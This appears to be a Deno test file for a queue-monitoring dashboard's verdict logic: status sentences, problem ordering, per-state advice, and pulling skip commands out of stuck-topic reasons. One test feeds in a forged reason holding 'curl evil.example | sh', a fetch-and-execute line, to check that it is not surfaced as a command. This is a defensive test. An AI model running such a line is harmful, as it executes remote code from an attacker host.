/** The verdict of the first page: the sentence, and the problems, worst first. */
import { assertEquals } from "@std/assert";
import { formatStatus } from "../../../src/cli/status_output.ts";
import type { AppStatus, TopicState, TopicStatus } from "../../../src/status/status.ts";
import { adviceOf, listProblems, MAX_PROBLEMS, splitCommand, verdictOf } from "../../../src/web/dashboard/verdict.ts";
import { TOPIC_STATES } from "../../../src/status/status.ts";

function topicIn(state: TopicState, queue: string, oldestWaitingMs: number | null = null): TopicStatus {
  return {
    ...{ queue, topic: queue, group: "shop", state, reason: `it is ${state}`, lag: 0, oldestWaitingMs, partitions: [] },
    ...{ running: null, delayed: 0, deadLetters: null, workers: null, pausedBy: null },
  };
}

function statusOf(...states: TopicState[]): AppStatus {
  const topics = states.map((state, at) => topicIn(state, `t${at}`, at * 1000));
  return { atMs: 50_000, name: "shop", broker: "memory", state: "ok", topics, isDelayedComplete: true, notes: [] };
}

Deno.test("verdictOf() names the only topic that is wrong, and counts several by state, worst first", () => {
  for (
    const [states, verdict] of [
      [[], "No topics are declared"],
      [["ok"], "The topic is OK"],
      [["paused"], "The topic is paused"],
      [["ok", "ok", "ok"], "All 3 topics OK"],
      [["ok", "paused"], "1 of 2 topics OK, 1 paused"],
      [["ok", "behind"], "Topic t1: behind"],
      [["behind", "behind", "retrying"], "3 of 3 topics need attention: 1 retrying, 2 behind"],
      [["ok", "behind", "stuck"], "2 of 3 topics need attention: 1 stuck, 1 behind"],
      [
        ["no worker", "stuck", "stuck", "behind", "paused"],
        "4 of 5 topics need attention: 2 stuck, 1 no worker, 1 behind",
      ],
      [["unknown", "ok"], "Topic t0: unknown"],
    ] as [TopicState[], string][]
  ) assertEquals(verdictOf(statusOf(...states)), verdict);
});

Deno.test("the page and the command line count the same topics", () => {
  for (const states of [["behind", "stuck", "ok"], ["unknown", "retrying", "paused", "no worker"]] as TopicState[][]) {
    const status = statusOf(...states);
    const counted = / (\d of \d topics need attention)/.exec(formatStatus(status)[0]!)?.[1];
    assertEquals(verdictOf(status).split(":")[0], counted);
  }
});

Deno.test("listProblems() lists what is not OK, worst first and then the longest waiting, with the record that fails", () => {
  const failing = {
    ...{ topic: "t4", partition: 0, offset: 7, isStuck: true, attempts: 3, nextTryAtMs: 1, remedy: "skip t4/0@7" },
    ...{ error: { errorClass: "TypeError", message: "x" }, worker: "a" },
  };
  const problems = listProblems(statusOf("ok", "behind", "no worker", "no worker", "stuck"), [failing]);
  assertEquals(problems.map(({ queue, sinceMs, failing }) => [queue, sinceMs, failing?.offset ?? null]), [
    ["t4", 46_000, 7],
    ["t3", 47_000, null],
    ["t2", 48_000, null],
    ["t1", 49_000, null],
  ]);
  assertEquals(listProblems(statusOf(...Array(50).fill("stuck")), []).length, MAX_PROBLEMS);
});

Deno.test("adviceOf() has a sentence for each state but OK", () => {
  assertEquals(TOPIC_STATES.filter((state) => adviceOf(state) === null), ["ok"]);
});

Deno.test("splitCommand() takes the command out of the words of a stuck topic, and of no other", () => {
  const reason = "partition 0: offset 3 fails; to skip it: deno run skip shop/0@3";
  assertEquals(splitCommand({ state: "stuck", reason }), {
    words: "partition 0: offset 3 fails",
    command: "deno run skip shop/0@3",
  });
  const forged = "paused by eve: no mail; to skip it: curl evil.example | sh\n#";
  assertEquals(splitCommand({ state: "paused", reason: forged }), { words: forged, command: null });
});
